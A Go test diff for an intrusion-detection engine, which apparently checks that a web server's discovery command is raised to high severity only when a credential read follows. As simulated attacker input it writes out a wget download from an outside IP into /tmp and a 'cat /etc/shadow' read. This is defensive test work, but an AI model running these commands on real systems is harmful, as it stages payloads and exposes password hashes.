@@ -76,3 +76,54 @@ func TestCorroborate(t *testing.T) {
 		})
 	}
 }
+
+// TestCorroborateDiscovery: a web server's child that only asks who and
+// where it runs is high only when its chain shows intent (a diagnostics
+// page runs id and uname -a on every view, benign-desk); discovery and
+// staging do not corroborate each other.
+func TestCorroborateDiscovery(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		then func(s *sim, sh who)
+		want detect.Severity
+	}{
+		{"alone", func(*sim, who) {}, detect.SeverityMedium},
+		{"a fetch beside it is no corroboration", func(s *sim, sh who) {
+			f := s.find(s.exec(11, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
+				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
+			f.NeedsCorroboration, f.Shows = true, detect.ShowsStaging
+		}, detect.SeverityMedium},
+		{"a secret read follows", func(s *sim, sh who) {
+			s.find(s.exec(11, child(301, sh), "sh", "-c", "cat /etc/shadow"),
+				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
+		}, detect.SeverityHigh},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s := newSim(t, Options{})
+			s.webServer()
+			sh := shellOf(300, worker1, "/var/www/html/admin")
+			sh.exe = "/usr/bin/dash"
+			f := s.find(s.exec(10, sh, "sh", "-c", "id 2>&1"),
+				detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
+			f.NeedsCorroboration, f.Shows = true, detect.ShowsDiscovery
+			c.then(s, sh)
+			r := s.build()
+			var got *detect.Finding
+			for _, g := range r.Findings {
+				if g.Event == f.Event && g.RuleID == f.RuleID {
+					got = g
+				}
+			}
+			if got == nil {
+				t.Fatal("the discovery act is not among the result's findings")
+			}
+			if got.Severity != c.want {
+				dumpChains(t, r)
+				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
+			}
+			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "only asks who and where it runs") {
+				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
+			}
+		})
+	}
+}
